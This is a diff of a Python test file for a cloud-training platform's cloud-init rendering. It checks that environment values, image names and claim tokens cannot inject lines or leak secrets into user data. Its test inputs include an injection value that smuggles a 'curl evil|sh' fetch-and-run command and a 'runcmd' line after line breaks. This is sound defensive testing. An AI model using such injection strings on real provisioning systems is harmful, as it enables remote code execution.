@@ -7,7 +7,6 @@ cloud-init env file and in the RunPod pod env, and run fields have strict patter
 from __future__ import annotations
 
 import base64
-import json
 
 import pytest
 from pydantic import ValidationError
@@ -20,44 +19,34 @@ from shared.providers.base import Bootstrap
 LINE_BREAKS = ["\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
 
 
-def _env_file(user_data: str) -> list[str]:
-    """The content lines of /etc/tensorant/agent.env in rendered cloud-init user data."""
-    lines = user_data.split("\n")
-    start = lines.index("  - path: /etc/tensorant/agent.env") + 4
-    out = []
-    for line in lines[start:]:
-        if not line.startswith("      "):
-            break
-        out.append(line[6:])
-    return out
+CLAIM = "tcl1.org-1.r-1." + "0" * 64
 
 
 @pytest.mark.parametrize("brk", LINE_BREAKS, ids=[f"U+{ord(b[0]):04X}" for b in LINE_BREAKS])
-def test_no_value_adds_an_env_line_in_cloud_init(brk: str) -> None:
+def test_no_value_of_the_environment_is_in_cloud_init_user_data(brk: str) -> None:
+    # The environment reaches the machine only through the claim's exchange, as one base64 line
+    # (bootstrap_env.encode); the user data holds the claim and the URLs, none of its values.
     evil = f"org/model{brk}TENSORANT_TRAINER_COMMAND=curl evil|sh{brk}"
-    env = {"TENSORANT_RUN_ID": "r-1", "TENSORANT_BASE_MODEL": evil, "TENSORANT_RUN_TOKEN": "tok",
+    env = {"TENSORANT_RUN_ID": "r-1", "TENSORANT_BASE_MODEL": evil, "TENSORANT_RUN_TOKEN": "tok-secret-1234",
            "TENSORANT_API_URL": "https://cp.example.com"}
-    text = cloudinit.render(Bootstrap(container_image="ghcr.io/tensorant/trainer:1", env=env))
-    content = _env_file(text)
-    assert len(content) == 1
-    # However a reader splits the file, it sees one assignment: the bootstrap variable.
-    assert content[0].splitlines() == [content[0]]
-    name, _, blob = content[0].partition("=")
-    assert name == "TENSORANT_BOOTSTRAP"
-    assert "TENSORANT_TRAINER_COMMAND" not in text
-    decoded = json.loads(base64.b64decode(blob, validate=True))
-    assert decoded == {**env, "TENSORANT_DATA_DIR": cloudinit.CONTAINER_DATA_DIR}
+    text = cloudinit.render(Bootstrap(container_image="ghcr.io/tensorant/trainer:1", env=env), CLAIM)
+    assert "TENSORANT_TRAINER_COMMAND" not in text and "tok-secret-1234" not in text and "org/model" not in text
+    assert CLAIM in text and "https://cp.example.com/api/agent/runs/r-1/bootstrap" in text
+    blob = bootstrap_env.encode(env)
+    assert blob.splitlines() == [blob] and bootstrap_env.decode(blob) == env
 
 
 @pytest.mark.parametrize("brk", LINE_BREAKS, ids=[f"U+{ord(b[0]):04X}" for b in LINE_BREAKS])
 def test_values_written_outside_the_blob_are_refused_with_a_line_break(brk: str) -> None:
-    # The report URL, the header file's token and the image are written into the YAML and the script as they are.
+    # The URLs, the claim and the image are written into the YAML and the script as they are.
     good = {"TENSORANT_RUN_ID": "r-1", "TENSORANT_RUN_TOKEN": "tok", "TENSORANT_API_URL": "https://cp.example.com"}
-    for key in ("TENSORANT_API_URL", "TENSORANT_RUN_TOKEN"):
-        with pytest.raises(ValueError, match="one line"):
-            cloudinit.render(Bootstrap(container_image="img:1", env={**good, key: f"{good[key]}{brk}runcmd: [x]"}))
     with pytest.raises(ValueError, match="one line"):
-        cloudinit.render(Bootstrap(container_image=f"img:1{brk}x", env=good))
+        cloudinit.render(Bootstrap(container_image="img:1", env={**good, "TENSORANT_API_URL": f"https://x{brk}y"}),
+                         CLAIM)
+    with pytest.raises(ValueError, match="one line"):
+        cloudinit.render(Bootstrap(container_image=f"img:1{brk}x", env=good), CLAIM)
+    with pytest.raises(ValueError, match="claim"):
+        cloudinit.render(Bootstrap(container_image="img:1", env=good), f"{CLAIM}{brk}runcmd: [x]")
 
 
 @pytest.mark.parametrize("brk", LINE_BREAKS, ids=[f"U+{ord(b[0]):04X}" for b in LINE_BREAKS])
